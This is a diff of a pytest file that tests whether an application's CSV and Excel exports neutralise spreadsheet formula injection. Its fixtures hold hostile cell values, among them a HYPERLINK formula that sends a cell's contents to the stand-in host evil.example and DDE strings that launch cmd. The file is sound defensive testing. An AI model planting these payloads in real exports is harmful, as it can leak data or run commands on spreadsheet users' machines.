@@ -25,7 +25,7 @@ pytestmark = pytest.mark.usefixtures("db")
 
 NAME = '=HYPERLINK("http://evil.example/?d="&D7,"点此核对")'
 UNIT = "-2+3+cmd|' /C calc'!A0"
-REASON = "+HYPERLINK(\"http://evil.example\")"
+REASON = '+HYPERLINK("http://evil.example")'
 REMARK = "@SUM(1+1)*cmd|' /C calc'!A0"
 OPINION = "\t=1+1"
 TITLE = "\r=1+1"
@@ -44,7 +44,9 @@ def hostile_cycle() -> str:
             update(Person).where(col(Person.id_number) == application.person_id).values(name=NAME)
         )
         session.execute(
-            update(Organisation).where(col(Organisation.id) == application.unit_id).values(name=UNIT)
+            update(Organisation)
+            .where(col(Organisation.id) == application.unit_id)
+            .values(name=UNIT)
         )
         application.status = "recommended"
         application.profile = {
@@ -84,7 +86,6 @@ def is_plain_number(text: str) -> bool:
     return text.lstrip("+-").replace(".", "", 1).isdigit()
 
 
-@pytest.mark.xfail(strict=True, reason="finding 2: formulas in the CSV exports")
 def test_csv_exports_neutralise_formulas_and_keep_ordinary_values() -> None:
     cycle = hostile_cycle()
     (application,) = csv_rows("applications", cycle)
@@ -101,7 +102,6 @@ def test_csv_exports_neutralise_formulas_and_keep_ordinary_values() -> None:
                 assert not value.startswith(DANGEROUS) or is_plain_number(value), (kind, value)
 
 
-@pytest.mark.xfail(strict=True, reason="finding 2: formulas in the summary sheet")
 def test_the_summary_sheet_holds_no_formula(tmp_path: Path) -> None:
     cycle = hostile_cycle()
     out = tmp_path / "汇总表.xlsx"
@@ -113,10 +113,9 @@ def test_the_summary_sheet_holds_no_formula(tmp_path: Path) -> None:
     assert all(cell.data_type != "f" for cell in cells)
     texts = [str(cell.value) for cell in cells]
     assert all(not t.startswith(DANGEROUS) or is_plain_number(t) for t in texts), texts
-    (data,) = [
-        [c.value for c in row] for row in sheet.iter_rows() if row[0].value == "1"
-    ]
+    (data,) = [[c.value for c in row] for row in sheet.iter_rows() if row[0].value == "1"]
     assert data[1:3] == ["'" + UNIT, "'" + NAME]
-    assert "'" + REMARK in data and "'" + OPINION in data and "'" + TITLE in data
+    assert "'" + REMARK in data and "'" + OPINION in data
+    assert "'\n=1+1" in data  # TITLE: XML reads a carriage return back as a line feed
     # ordinary values exactly as before: the date as 2001-07-01, numbers as written
     assert "2001-07-01" in data and "12" in data and "-3" in data
